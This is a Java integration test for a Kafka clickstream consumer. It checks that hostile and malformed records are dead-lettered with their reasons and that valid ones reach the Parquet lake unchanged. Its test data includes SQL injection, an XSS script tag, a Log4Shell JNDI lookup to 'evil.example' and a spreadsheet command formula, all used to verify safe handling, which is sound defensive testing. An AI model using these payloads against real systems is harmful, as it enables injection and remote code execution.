package io.clickstream.sandbox.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import io.clickstream.common.event.ClickEvent;
import io.clickstream.common.event.EventType;
import io.clickstream.common.json.EventDecoder;
import io.clickstream.common.json.EventJsonWriter;
import io.clickstream.common.validation.DecodeResult;
import io.clickstream.consumer.dlq.DeadLetterHeaders;
import io.clickstream.consumer.dlq.DeadLetterSender;
import io.clickstream.consumer.kafka.SinkSummary;
import io.clickstream.sandbox.consumer.InProcessConsumer;
import io.clickstream.sandbox.embedded.EmbeddedStackExtension;
import io.clickstream.sandbox.lake.LakeVerifier;
import io.clickstream.sandbox.lake.VerifierReport;
import io.clickstream.sandbox.testing.ConsumerEnv;
import io.clickstream.sandbox.testing.Names;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.Future;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.clients.producer.RecordMetadata;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import software.amazon.awssdk.services.s3.S3Client;

/**
 * The whole corpus, shuffled into ordinary traffic, through the real consumer on the embedded stack: every
 * invalid kind lands in the dead-letter topic with its reason, field and original bytes, every valid kind
 * is in the lake as the decoder read it, nothing is lost or doubled, and the consumer never stops.
 */
class CorpusIT {

    @RegisterExtension
    static final EmbeddedStackExtension STACK = new EmbeddedStackExtension();

    /** The payload of {@code user-agent-sql-html.json}: it must reach Parquet exactly as sent. */
    static final String SQL_HTML_USER_AGENT = "Mozilla/5.0'); DROP TABLE events; -- <script>alert(\"x\")</script> \\ %s %n"
            + " ${jndi:ldap://evil.example/a} =cmd|'/C calc'!A0";

    private static final int PARTITIONS = 3;
    private static final int BULK_EVENTS = 2_000;
    private static final long SEED = 20_260_119L;
    /** Room for the 1 MiB record_too_large entry in the source topic; the broker's default is about 1 MB. */
    private static final int MAX_MESSAGE_BYTES = 2 << 20;
    /** The corpus entry sent with a null Kafka key (a record property, so it has no file of its own). */
    private static final String NULL_KEY_ENTRY = "valid-baseline.json";
    private static final String TOMBSTONE = "(null value)";

    /** One record to send; {@code entry} is null for ordinary traffic. */
    private record Outgoing(String label, byte[] key, byte[] value, Corpus.Entry entry) {
    }

    @Test
    void everyHostileRecordIsDeadLetteredWithItsReasonOrStoredAsDecodedAndTheConsumerNeverStops() throws IOException {
        var names = Names.of("corpus");
        List<Corpus.Entry> corpus = Corpus.entries();
        List<Outgoing> outgoing = traffic(corpus);
        Map<String, RecordMetadata> where;
        try (var topics = new KafkaTopics(STACK.kafka().bootstrapServers())) {
            topics.create(names.topic(), PARTITIONS, MAX_MESSAGE_BYTES);
            topics.create(names.dlqTopic(), 1); // the broker's default limit: the consumer cuts what would not fit
            STACK.s3().createBucket(names.bucket());
            where = send(topics, names.topic(), outgoing);
        }
        long invalidSent = corpus.stream().filter(e -> !e.valid()).count() + 1; // + the tombstone
        long validSent = outgoing.size() - invalidSent;

        Map<String, String> env = ConsumerEnv.exitingWhenIdle(STACK, names);
        env.put("MAX_RECORD_BYTES", Integer.toString(Corpus.MAX_RECORD_BYTES));
        SinkSummary summary;
        try (var consumer = InProcessConsumer.start("hostile-consumer", env)) {
            summary = consumer.awaitExit(Duration.ofMinutes(4)).summary();
        }

        assertThat(summary.drainedCleanly()).as("%s", summary).isTrue();
        assertThat(summary.consumed()).as("consumed, %s", summary).isEqualTo(outgoing.size());
        assertThat(summary.invalid()).as("invalid, %s", summary).isEqualTo(invalidSent);
        assertThat(summary.valid()).as("valid, %s", summary).isEqualTo(validSent);
        try (var topics = new KafkaTopics(STACK.kafka().bootstrapServers())) {
            assertThat(topics.lag(names.topic(), names.group())).as("lag after the run").isZero();
            assertDeadLetters(topics.readAll(names.dlqTopic()), outgoing, where, names.topic(), invalidSent);
        }

        try (S3Client s3 = STACK.s3().newClient()) {
            VerifierReport report = LakeVerifier.verify(new LakeVerifier.Target(STACK.kafka().bootstrapServers(),
                    names.topic(), names.dlqTopic(), s3, names.bucket(), names.prefix(), LakeVerifier.HourSource.INGESTED_AT));
            assertThat(report.ok()).as(report.describe()).isTrue();
            assertThat(report.expectedOffsets()).as(report.describe()).isEqualTo(outgoing.size());
            assertThat(report.rows()).as(report.describe()).isEqualTo(validSent);
            assertThat(report.deadLetters()).as(report.describe()).isEqualTo(invalidSent);
            assertValidEntriesInLake(s3, names, corpus, where);
        }
    }

    /** The corpus, a tombstone and {@link #BULK_EVENTS} ordinary events, shuffled with a fixed seed. */
    private static List<Outgoing> traffic(List<Corpus.Entry> corpus) {
        var random = new Random(SEED);
        List<Outgoing> all = new ArrayList<>();
        EventType[] types = EventType.values();
        Instant start = Instant.parse("2026-01-19T10:00:00Z");
        for (int i = 0; i < BULK_EVENTS; i++) {
            String session = "bulk-session-" + random.nextInt(200);
            var event = new ClickEvent(new UUID(random.nextLong(), random.nextLong()).toString(), "bulk-user-" + i, session,
                    types[random.nextInt(types.length)], start.plusMillis(i * 1_000L + random.nextInt(1_000)),
                    "https://shop.example.com/p/" + random.nextInt(500), (long) random.nextInt(500),
                    "10.0." + random.nextInt(256) + "." + random.nextInt(256), null, "Mozilla/5.0 (bulk)", "desktop");
            all.add(new Outgoing("bulk-" + i, bytes(session), EventJsonWriter.write(event), null));
        }
        for (Corpus.Entry entry : corpus) {
            byte[] key = entry.file().equals(NULL_KEY_ENTRY) ? null : bytes(entry.file());
            all.add(new Outgoing(entry.file(), key, entry.value(), entry));
        }
        all.add(new Outgoing(TOMBSTONE, bytes("tombstone"), null, null));
        Collections.shuffle(all, random);
        return all;
    }

    private static Map<String, RecordMetadata> send(KafkaTopics topics, String topic, List<Outgoing> outgoing) {
        Map<String, Future<RecordMetadata>> futures = new HashMap<>();
        try (var producer = topics.producer(MAX_MESSAGE_BYTES)) {
            for (Outgoing o : outgoing) {
                futures.put(o.label(), producer.send(new ProducerRecord<>(topic, o.key(), o.value())));
            }
            producer.flush();
        }
        Map<String, RecordMetadata> where = new HashMap<>();
        futures.forEach((label, future) -> {
            try {
                where.put(label, future.get());
            } catch (Exception e) {
                throw new AssertionError("could not send " + label + ": " + e, e);
            }
        });
        return where;
    }

    private static void assertDeadLetters(List<ConsumerRecord<byte[], byte[]>> letters, List<Outgoing> outgoing,
            Map<String, RecordMetadata> where, String topic, long invalidSent) {
        Map<String, ConsumerRecord<byte[], byte[]>> bySource = new HashMap<>();
        for (ConsumerRecord<byte[], byte[]> letter : letters) {
            String source = KafkaTopics.header(letter, DeadLetterHeaders.SOURCE_PARTITION) + "@"
                    + KafkaTopics.header(letter, DeadLetterHeaders.SOURCE_OFFSET);
            assertThat(bySource.put(source, letter)).as("two dead letters for %s", source).isNull();
        }
        assertThat(letters).as("one dead letter per invalid record, none for valid ones").hasSize((int) invalidSent);

        for (Outgoing o : outgoing) {
            boolean invalid = o.entry() != null ? !o.entry().valid() : o.label().equals(TOMBSTONE);
            if (!invalid) {
                continue;
            }
            RecordMetadata source = where.get(o.label());
            ConsumerRecord<byte[], byte[]> letter = bySource.get(source.partition() + "@" + source.offset());
            assertThat(letter).as("dead letter of %s", o.label()).isNotNull();
            String expectedReason = o.entry() == null ? "empty_record" : o.entry().expected();
            String expectedField = o.entry() == null ? "$" : o.entry().field();
            assertThat(KafkaTopics.header(letter, DeadLetterHeaders.ERROR_REASON)).as("error.reason of %s", o.label())
                    .isEqualTo(expectedReason);
            assertThat(KafkaTopics.header(letter, DeadLetterHeaders.ERROR_FIELD)).as("error.field of %s", o.label())
                    .isEqualTo(expectedField);
            assertThat(KafkaTopics.header(letter, DeadLetterHeaders.SOURCE_TOPIC)).isEqualTo(topic);
            assertThat(KafkaTopics.header(letter, DeadLetterHeaders.ERROR_MESSAGE)).as("error.message of %s", o.label())
                    .isNotBlank().hasSizeLessThan(4_096);
            if (o.value() != null && o.value().length > DeadLetterSender.MAX_FORWARDED_VALUE_BYTES) {
                // Cut so the dead-letter topic always accepts it (else every replay would fail and block
                // the partition); the headers say so and keep the original length.
                assertSameBytes(letter.value(), Arrays.copyOf(o.value(), DeadLetterSender.MAX_FORWARDED_VALUE_BYTES),
                        "first bytes of " + o.label());
                assertThat(KafkaTopics.header(letter, DeadLetterHeaders.VALUE_TRUNCATED)).isEqualTo("true");
                assertThat(KafkaTopics.header(letter, DeadLetterHeaders.VALUE_BYTES))
                        .isEqualTo(Integer.toString(o.value().length));
            } else {
                assertSameBytes(letter.value(), o.value(), "value of " + o.label());
                assertThat(KafkaTopics.header(letter, DeadLetterHeaders.VALUE_TRUNCATED)).as(o.label()).isNull();
            }
            assertSameBytes(letter.key(), o.key(), "key of " + o.label());
        }
    }

    /** Like {@code isEqualTo}, but a mismatch names the lengths and the first differing byte, not a megabyte of numbers. */
    private static void assertSameBytes(byte[] actual, byte[] expected, String what) {
        if (Arrays.equals(actual, expected)) {
            return;
        }
        assertThat(actual).as("%s is null", what).isNotNull();
        assertThat(expected).as("%s should be null", what).isNotNull();
        int first = Arrays.mismatch(actual, expected);
        throw new AssertionError(what + " differs: " + actual.length + " bytes, expected " + expected.length
                + "; first difference at byte " + first);
    }

    /** Each valid entry's row sits at the entry's (partition, offset) and holds what the decoder made of it. */
    private static void assertValidEntriesInLake(S3Client s3, Names names, List<Corpus.Entry> corpus,
            Map<String, RecordMetadata> where) throws IOException {
        Map<String, List<Object>> rows = LakeRows.byPartitionAndOffset(s3, names, "user_id NOT LIKE 'bulk-user-%'");
        var decoder = new EventDecoder(Corpus.MAX_RECORD_BYTES);
        List<Corpus.Entry> valid = corpus.stream().filter(Corpus.Entry::valid).toList();
        for (Corpus.Entry entry : valid) {
            RecordMetadata source = where.get(entry.file());
            List<Object> row = rows.get(source.partition() + "@" + source.offset());
            assertThat(row).as("lake row of %s at %s@%s", entry.file(), source.partition(), source.offset()).isNotNull();
            ClickEvent event = ((DecodeResult.Valid) decoder.decode(entry.value())).event();
            assertThat(row).as("lake row of %s", entry.file()).containsExactlyElementsOf(LakeRows.columnsOf(event));
        }
        assertThat(rows).as("corpus rows in the lake").hasSize(valid.size());

        // Independent of the decoder: the literal payloads, and the normalizations the design promises.
        assertThat(column(rows, where, "user-agent-sql-html.json", 9)).isEqualTo(SQL_HTML_USER_AGENT);
        assertThat(column(rows, where, "user-id-sql.json", 1)).isEqualTo("corpus-user-id-sql' OR '1'='1");
        assertThat(column(rows, where, "unicode-text.json", 9))
                .isEqualTo("Mozilla/5.0 \u00e9\u00e8 \u4e2d\u6587 \uD83D\uDE00 \u05e2\u05d1\u05e8\u05d9\u05ea");
        assertThat(column(rows, where, "escaped-surrogate-pair.json", 9)).isEqualTo("smile \uD83D\uDE00");
        assertThat(column(rows, where, "url-mixed-case.json", 5)).isEqualTo("https://shop.example.com:8443/P/AbC?Utm=X#Frag");
        assertThat(column(rows, where, "ts-offset.json", 4)).isEqualTo(LakeRows.micros(Instant.parse("2026-01-19T10:15:30Z")));
        assertThat(column(rows, where, "ts-nanoseconds.json", 4))
                .isEqualTo(LakeRows.micros(Instant.parse("2026-01-19T15:45:30.123456Z")));
        assertThat(column(rows, where, NULL_KEY_ENTRY, 1)).isEqualTo("corpus-valid-baseline");
    }

    private static Object column(Map<String, List<Object>> rows, Map<String, RecordMetadata> where, String file, int column) {
        RecordMetadata source = where.get(file);
        return rows.get(source.partition() + "@" + source.offset()).get(column);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
